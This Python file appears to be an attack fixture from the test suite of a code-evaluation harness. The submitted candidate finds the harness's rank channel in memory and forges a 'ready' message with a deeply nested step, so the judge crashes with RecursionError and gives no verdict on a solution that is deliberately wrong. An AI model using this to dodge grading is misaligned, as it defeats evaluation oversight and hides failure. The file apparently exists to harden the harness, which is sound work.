"""Attack (all-reduce): say "ready" first, in the harness's name, with a step nested just short of
the depth at which the judge's JSON parser gives up. The channel's token is in this process's
memory (gc), and the first "ready" a rank 0 sends is handed, step and task as sent, to the
evaluation's progress hook: `pkb eval --progress` (what a worker runs) writes each event as a
JSON line. A step the judge parsed a few Python frames up its stack is one the printer, a few
frames deeper, cannot encode: RecursionError, no ValueError, and `pkb eval` ended with a
traceback instead of a verdict (exit 2, no report) on a candidate that returns wrong answers.

The depth at which that happens is fixed by the judge's code (its stack when it reads a rank's
pipe), so a submitter finds it once, offline; ``DEPTH`` stands for that number (the test sets it).
"""

import gc
import sys

DEPTH = 900


def _channel():
    return next((o for o in gc.get_objects() if type(o).__name__ == "RankChannel"), None)


_sent = False


def _say_ready():
    global _sent
    channel = _channel()
    if channel is None or _sent:
        return
    _sent = True
    sys.setrecursionlimit(max(sys.getrecursionlimit(), 4 * DEPTH))  # its own encoder's room
    step = []
    for _ in range(DEPTH - 2):  # the message itself and its "step" list are two levels
        step = [step]
    channel.send("ready", step=step, task=None)


_say_ready()  # at import: before the harness's own "ready", which is then a repeat


def solution(x, *, group):
    return x.clone()  # its own share only: wrong on every call
